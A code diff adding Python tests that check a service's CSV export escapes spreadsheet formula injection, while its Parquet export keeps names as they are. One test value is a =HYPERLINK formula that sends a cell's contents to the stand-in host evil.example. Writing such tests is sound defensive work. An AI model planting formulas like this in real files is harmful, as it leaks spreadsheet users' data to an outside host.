@@ -50,6 +50,39 @@ def test_a_local_export_is_what_devices_sent(service, tmp_path):
     assert all(row["option"] in LOCAL["options"] for row in rows)
 
 
+def test_no_name_in_a_table_is_a_formula(tmp_path):
+    """A page's token is enough to name what is offered, and an id."""
+    evil, ids = '=HYPERLINK("http://evil.example/?"&A1,"all well")', ["-1", "red", "_x"]
+    service = Service(tmp_path / "s.db")
+    policy = {"name": "linucb", "dimension": 1, "epsilon": 1.0}
+    service.create({"name": "shop", "policy": policy, "people": ["ann"]})
+    for id, name in zip(ids, [evil, "\t@SUM(1)", "'tea"], strict=True):
+        service.decide("shop", id=id, person="ann", contexts={name: [-0.5]}, shown=True)
+    found = lines(service, "shop")
+    service.stop()
+    for suffix in ("json", "csv", "parquet"):
+        write(tmp_path / f"x.{suffix}", found)
+    with (tmp_path / "x.csv").open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert [row["id"] for row in rows] == ["'-1", "red", "_x"]
+    assert [row["option"] for row in rows] == [f"'{evil}", "'\t@SUM(1)", "''tea"]
+    cells = [cell for row in rows for cell in row.values()]
+    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)
+    # What no spreadsheet opens has names as they are.
+    table = pyarrow.parquet.read_table(tmp_path / "x.parquet").to_pylist()
+    assert [row["option"] for row in table] == [evil, "\t@SUM(1)", "'tea"]
+    assert [row["id"] for row in table] == ids
+
+
+def test_numbers_in_a_table_stay_numbers(tmp_path):
+    made = {"kind": "decision", "id": "a", "at": 1.0, "option": "red", "probability": 0.5}
+    told = {"kind": "report", "id": "a", "at": 2.0, "value": -0.25}
+    write(tmp_path / "x.csv", [json.dumps(made), json.dumps(told)])
+    with (tmp_path / "x.csv").open(newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert (row["at"], row["probability"], row["report"]) == ("1.0", "0.5", "-0.25")
+
+
 def test_a_central_export_has_no_reward_and_no_silence(tmp_path):
     """Histories that differ in rewards and in who answered export the same, noise aside."""
     exports = []
